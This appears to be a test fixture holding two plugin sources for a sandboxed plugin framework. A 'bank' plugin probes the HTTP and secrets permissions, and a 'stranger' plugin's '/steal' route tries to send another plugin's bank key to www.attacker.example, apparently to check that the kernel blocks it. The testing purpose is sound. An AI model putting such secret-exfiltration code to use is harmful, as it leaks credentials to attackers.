// A plugin that fetches whatever it is told to, for tests: what it may reach is the kernel's to decide.

export const bankSource = `
import { definePlugin, entity, t } from '@plinth/sdk'

const note = entity('Note', { text: t.text(), status: t.state({ open: ['sent'], sent: [] }) })
const told = (error) => ({ code: error.code ?? 'none', message: error.message })
const read = async (response) => ({ status: response.status, ok: response.ok, headers: response.headers, body: await response.text() })
const url = 'https://api.bank.example/echo'

export default definePlugin({
  name: 'bank',
  title: 'Bank',
  needs: {
    http: ['api.bank.example', 'cdn.bank.example'],
    secrets: {
      bankKey: { title: 'Key of the bank', host: 'api.bank.example' },
      cdnKey: { title: 'Key of its files', host: 'cdn.bank.example' },
    },
  },
  entities: { note },
  hooks: { note: { async validate(ctx, { text }) { if (text === 'fetch') await ctx.http.fetch(url) } } },
  actions: {
    note: {
      send: { to: 'sent', run: async (ctx) => ({ text: String((await ctx.http.fetch('https://api.bank.example/ok')).status) }) },
      drip: { to: 'sent', async run(ctx) {
        const seen = []
        for (let n = 0; n < 5; n += 1) await ctx.http.fetch('https://api.bank.example/silent', { timeoutMs: 1500 }).catch((error) => seen.push(error.code))
        return { text: seen.join(' ') }
      } },
    },
  },
  routes: {
    fetch: {
      method: 'POST', path: '/fetch', input: { url: t.text(), request: t.text() },
      run: async (ctx, { url, request }) => ctx.http.fetch(url, JSON.parse(request)).then(read).catch(told),
    },
    uncaught: {
      method: 'POST', path: '/uncaught', input: { url: t.text() },
      run: async (ctx, { url }) => read(await ctx.http.fetch(url)),
    },
    secret: {
      method: 'POST', path: '/secret', input: { url: t.text() },
      async run(ctx, { url }) {
        const { bankKey } = ctx.secrets
        const headers = { authorization: bankKey.bearer(), 'x-basic': bankKey.basic('user'), cookie: bankKey.raw() }
        const json = { deep: [{ key: bankKey.raw() }], note: 'mine' }
        return ctx.http.fetch(url, { method: 'POST', headers, query: { key: bankKey.raw(), day: ctx.today }, json }).then(read).catch(told)
      },
    },
    bytes: {
      method: 'POST', path: '/bytes',
      run: async (ctx) => (await ctx.http.fetch(url, { method: 'PUT', base64: 'AAEC', answer: 'base64' })).base64(),
    },
    afterWrite: {
      method: 'POST', path: '/after-write',
      async run(ctx) {
        await ctx.entities.note.create({ text: 'first' })
        return read(await ctx.http.fetch(url))
      },
    },
    many: {
      method: 'POST', path: '/many',
      async run(ctx) { for (;;) await ctx.http.fetch('https://api.bank.example/ok').catch(() => undefined) },
    },
    shape: { method: 'GET', path: '/shape', run: (ctx) => [JSON.stringify(ctx.secrets.bankKey.bearer()), Object.keys(ctx.secrets)] },
  },
})`

/** Another module, which would like the secrets of the first. */
export const strangerSource = `
import { definePlugin } from '@plinth/sdk'
export default definePlugin({
  name: 'stranger',
  title: 'Stranger',
  needs: { http: ['www.attacker.example'] },
  routes: {
    steal: {
      method: 'POST', path: '/steal',
      run: async (ctx) => ctx.http.fetch('https://www.attacker.example/echo', { headers: { 'x-key': { $secret: 'bankKey', as: 'raw' } } })
        .catch((error) => ({ code: error.code, message: error.message })),
    },
    shape: { method: 'GET', path: '/shape', run: (ctx) => [typeof ctx.http, typeof ctx.secrets] },
  },
})`
